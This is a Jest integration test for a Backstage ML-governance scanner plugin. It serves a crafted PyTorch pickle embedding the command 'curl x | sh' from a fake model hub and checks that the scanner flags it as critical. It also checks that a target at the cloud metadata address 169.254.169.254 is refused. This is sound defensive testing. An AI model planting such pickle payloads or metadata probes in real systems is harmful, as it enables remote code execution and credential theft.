import { mockCredentials } from '@backstage/backend-test-utils';
import type { Entity } from '@backstage/catalog-model';
// eslint-disable-next-line @backstage/no-forbidden-package-imports -- the scanner's protocol stand-ins; tests only
import {
  sparseTorchZip,
  startFakeHub,
  torchStateDictPickle,
  type FakeHub,
} from '@ml-governance/scanner/src/test-support/remote';
import request from 'supertest';
import { ALICE, startMlGovernanceBackend } from '../__testUtils__/testBackend';

jest.setTimeout(60_000);

const SHA = 'e'.repeat(40);
const FAR = { frequency: { hours: 24 }, timeout: { minutes: 5 } };
let hub: FakeHub;

beforeAll(async () => {
  hub = await startFakeHub({
    'acme/fraud-llm': {
      revisions: { main: SHA },
      token: 'hf_portal',
      files: {
        'pytorch_model.bin': sparseTorchZip(
          torchStateDictPickle(50, 100, 'curl x | sh'),
          2 * 1024 ** 3,
          50,
        ),
      },
    },
  });
});
afterAll(() => hub.close());

const entity = (name: string, target: string): Entity => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Resource',
  metadata: {
    name,
    namespace: 'default',
    annotations: { 'ml-governance.io/artifacts': target },
  },
  spec: { type: 'ai-model', owner: 'group:default/fraud' },
});

describe('remote sources in the backend', () => {
  it('scans a private Hub model with the configured token, then skips it while the commit is unchanged', async () => {
    const harness = await startMlGovernanceBackend({
      entities: [
        entity('fraud-llm', 'hf://acme/fraud-llm'),
        entity('metadata-probe', 'http://169.254.169.254/acme/x'),
      ],
      allowedFileRoots: [],
      rootConfig: {
        mlGovernance: {
          schedule: FAR,
          reports: { schedule: FAR },
          sources: {
            huggingface: {
              endpoint: hub.hub.origin,
              token: 'hf_portal',
              redirectHosts: [`localhost:${hub.cdn.port}`],
            },
          },
        },
      },
    });
    try {
      await harness.runTask('ml-governance-scan-round');
      const transferredFirst = hub.served.body;
      expect(transferredFirst).toBeGreaterThan(0);
      expect(transferredFirst).toBeLessThan(2 * 1_000_000);
      const findings = await request(harness.server)
        .get('/api/ml-governance/entities/resource/default/fraud-llm/findings')
        .set('Authorization', mockCredentials.user.header(ALICE));
      expect(findings.body.items).toContainEqual(
        expect.objectContaining({
          target: 'hf://acme/fraud-llm',
          severity: 'critical',
          message: expect.stringContaining('os.system'),
        }),
      );
      // The metadata address is no configured source: the target fails, it is never fetched or passed.
      const probe = await request(harness.server)
        .get(
          '/api/ml-governance/entities/resource/default/metadata-probe/findings',
        )
        .set('Authorization', mockCredentials.user.header(ALICE));
      expect(probe.body.items.length).toBeGreaterThan(0);
      expect(
        probe.body.items.every(
          (f: { target: string }) =>
            f.target === 'http://169.254.169.254/acme/x',
        ),
      ).toBe(true);

      // Next round: the resolver asks the Hub for the commit, finds it unchanged and reads no file byte.
      harness.clock.now = new Date(harness.clock.now.getTime() + 30 * 60_000);
      const apiCalls = () =>
        hub.served.log.filter(entry => entry.url.startsWith('/api/models/'))
          .length;
      const apiCallsBefore = apiCalls();
      await harness.runTask('ml-governance-scan-round');
      expect(apiCalls()).toBe(apiCallsBefore + 1);
      expect(hub.served.body).toBe(transferredFirst);
      const scans = await request(harness.server)
        .get('/api/ml-governance/entities/resource/default/fraud-llm/scans')
        .set('Authorization', mockCredentials.user.header(ALICE));
      expect(
        scans.body
          .map(
            (run: { targets: { status: string }[] }) => run.targets[0]?.status,
          )
          .sort(),
      ).toEqual(['scanned', 'unchanged']);
    } finally {
      await harness.stop();
    }
  });
});
